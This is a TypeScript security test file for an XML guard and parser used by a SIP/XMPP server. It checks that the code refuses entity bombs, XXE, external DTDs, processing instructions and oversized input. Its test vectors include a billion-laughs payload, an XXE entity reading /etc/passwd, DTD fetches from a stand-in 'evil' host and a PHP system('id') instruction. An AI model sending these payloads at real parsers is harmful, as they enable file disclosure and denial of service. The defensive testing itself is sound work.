/**
 * Attack tests for the restricted-XML guard and parseXmlDocument, the parser
 * every XML body from the network goes through (PIDF, isComposing, IMDN,
 * XHTML) and, in stream mode, the S2S stream. RFC 6120 §11.1 (no DTD,
 * comments, PIs, entities other than the predefined ones), §13.12 (limits
 * enforced while parsing). `it.failing` marks a demonstrated defect.
 */
import { parseXmlDocument } from './parse-xml-document';
import { XmlGuard, type XmlGuardLimits } from './xml-guard';

const LIMITS: XmlGuardLimits = { maxStanzaBytes: 4096, maxDepth: 16, maxElements: 100 };
const codeOf = (text: string, limits = LIMITS) => {
  const r = parseXmlDocument(text, limits);
  return r.ok ? 'ok' : r.error.code;
};

describe('security: parseXmlDocument refuses XML attack constructs (RFC 6120 §11.1)', () => {
  it.each([
    ['billion laughs', '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>', 'restricted-xml'],
    ['XXE with a SYSTEM entity', '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>', 'restricted-xml'],
    ['a parameter entity', '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]><x/>', 'restricted-xml'],
    ['an external DTD', '<!DOCTYPE presence SYSTEM "http://evil/x.dtd"><presence/>', 'restricted-xml'],
    ['an undeclared entity reference', '<x>&nbsp;</x>', 'restricted-xml'],
    ['an entity reference in an attribute', '<x a="&xxe;"/>', 'restricted-xml'],
    ['a comment inside the root', '<x><!-- c --></x>', 'restricted-xml'],
    ['a processing instruction inside the root', '<x><?php system("id") ?></x>', 'restricted-xml'],
    ['a CDATA section', '<x><![CDATA[<script>]]></x>', 'restricted-xml'],
    ['a second XML declaration', '<?xml version="1.0"?><?xml version="1.0"?><x/>', 'restricted-xml'],
    ['a NUL character', '<x>\u0000</x>', 'not-well-formed'],
    ['a character reference to a C0 control', '<x>&#x1;</x>', 'not-well-formed'],
    ['a character reference beyond Unicode', '<x>&#x110000;</x>', 'not-well-formed'],
    ['a character reference to a surrogate', '<x>&#xD800;</x>', 'not-well-formed'],
    ['a bare ampersand', '<x>a & b</x>', 'not-well-formed'],
    ["'<' inside an attribute value", '<x a="<y>"/>', 'not-well-formed'],
    ['an unquoted attribute', '<x a=1/>', 'not-well-formed'],
    ['a second root element', '<x/><y/>', 'not-well-formed'],
    ['text after the root', '<x/>tail', 'not-well-formed'],
    ['mismatched tags', '<x><y></x></y>', 'not-well-formed'],
    ['an unterminated document', '<x><y>', 'not-well-formed'],
    ['an empty body', '  ', 'empty'],
  ])('refuses %s', (_n, text, code) => {
    expect(codeOf(text)).toBe(code);
  });

  it('accepts the five predefined entities and legal character references', () => {
    const r = parseXmlDocument('<x a="&quot;&apos;">&lt;&gt;&amp;&#233;&#x1F600;</x>', LIMITS);
    expect(r.ok && r.value.children).toEqual(['<>&\u00e9\u{1F600}']);
  });

  /*
   * Fixed defect, kept as a regression test: the guard treated ANY "<?...?>" before the root as the XML
   * declaration (xml-guard.ts S.Lt: '?' with !seenContent enters S.Decl and
   * accepts whatever follows until '?>'). So a processing instruction such
   * as <?xml-stylesheet href='http://evil/x.xsl'?> or <?php ...?> is
   * accepted at the start of a SIP body (and of an S2S stream, where
   * stream-parser.ts skipDeclaration silently drops it). RFC 6120 §11.1:
   * processing instructions MUST NOT be sent and the receiver closes with
   * restricted-xml; only "<?xml" followed by whitespace is a declaration
   * (XML 1.0 §2.8, PITarget excludes "xml").
   */
  it.each([
    ['an xml-stylesheet PI', '<?xml-stylesheet type="text/xsl" href="http://evil.test/x.xsl"?><presence xmlns="urn:ietf:params:xml:ns:pidf" entity="pres:a@b"/>'],
    ['an arbitrary PI', '<?php system("id") ?><x/>'],
  ])('refuses %s in place of the XML declaration', (_n, text) => {
    expect(codeOf(text)).toBe('restricted-xml');
  });

  /*
   * Fixed defect (low), kept as a regression test: duplicate attributes were not refused. XML 1.0 §3.1 WFC
   * "Unique Att Spec" makes <x a='1' a='2'/> not well-formed; ltx silently
   * keeps the last value. Two parsers reading the same document can then
   * disagree about, e.g., a PIDF entity or an IMDN message-id (a parser
   * differential), and RFC 6120 §11.4 requires well-formed input. Expected:
   * not-well-formed.
   */
  it('refuses an element with the same attribute twice (XML 1.0 §3.1 Unique Att Spec)', () => {
    expect(codeOf("<presence entity='pres:alice@sip.example' entity='pres:ceo@sip.example'/>")).toBe('not-well-formed');
  });
});

describe('security: limits hold while scanning, not after (RFC 6120 §13.12)', () => {
  it.each([
    ['a huge attribute value', `<x a="${'A'.repeat(5000)}"/>`, 'stanza-too-big'],
    ['a huge text node', `<x>${'A'.repeat(5000)}</x>`, 'stanza-too-big'],
    ['a huge element name', `<${'x'.repeat(5000)}/>`, 'stanza-too-big'],
    ['multi-byte text counted in UTF-8 bytes (1500 × 3 bytes)', `<x>${'\u20ac'.repeat(1500)}</x>`, 'stanza-too-big'],
    ['astral characters counted as 4 bytes (1100 × 4 bytes)', `<x>${'\u{1F600}'.repeat(1100)}</x>`, 'stanza-too-big'],
    ['deep nesting', '<a>'.repeat(17) + '</a>'.repeat(17), 'too-deep'],
    ['too many elements', `<x>${'<y/>'.repeat(100)}</x>`, 'too-many-elements'],
    ['a long entity name', `<x>&${'a'.repeat(20)};</x>`, 'not-well-formed'],
  ])('refuses %s', (_n, text, code) => {
    expect(codeOf(text)).toBe(code);
  });

  it('stops at the limit inside an unterminated document: the guard fails on the chunk that crosses it', () => {
    const g = new XmlGuard(LIMITS, 'document');
    expect(g.feed('<x a="')).toBeUndefined();
    let failedAt = -1;
    for (let i = 0; i < 100 && failedAt < 0; i++) if (g.feed('A'.repeat(100))) failedAt = i;
    expect(failedAt).toBe(40); // 6 + 41 × 100 > 4096
  });

  it('in stream mode, counts the stream header against the limit (a header that never ends is refused)', () => {
    const g = new XmlGuard(LIMITS, 'stream');
    expect(g.feed("<stream:stream xmlns='jabber:server' x='")).toBeUndefined();
    expect(g.feed('H'.repeat(5000))?.code).toBe('stanza-too-big');
  });

  it('in stream mode, resets the per-stanza count between stanzas (many small stanzas are fine)', () => {
    const g = new XmlGuard(LIMITS, 'stream');
    expect(g.feed("<stream:stream xmlns='jabber:server'>")).toBeUndefined();
    for (let i = 0; i < 1000; i++) expect(g.feed(`<message><body>${'m'.repeat(1000)}</body></message>`)).toBeUndefined();
  });

  it('stays failed after a violation (no resynchronisation on later input)', () => {
    const g = new XmlGuard(LIMITS, 'document');
    expect(g.feed('<x><!--')?.code).toBe('restricted-xml');
    expect(g.feed('-->ok</x>')?.code).toBe('restricted-xml');
  });
});
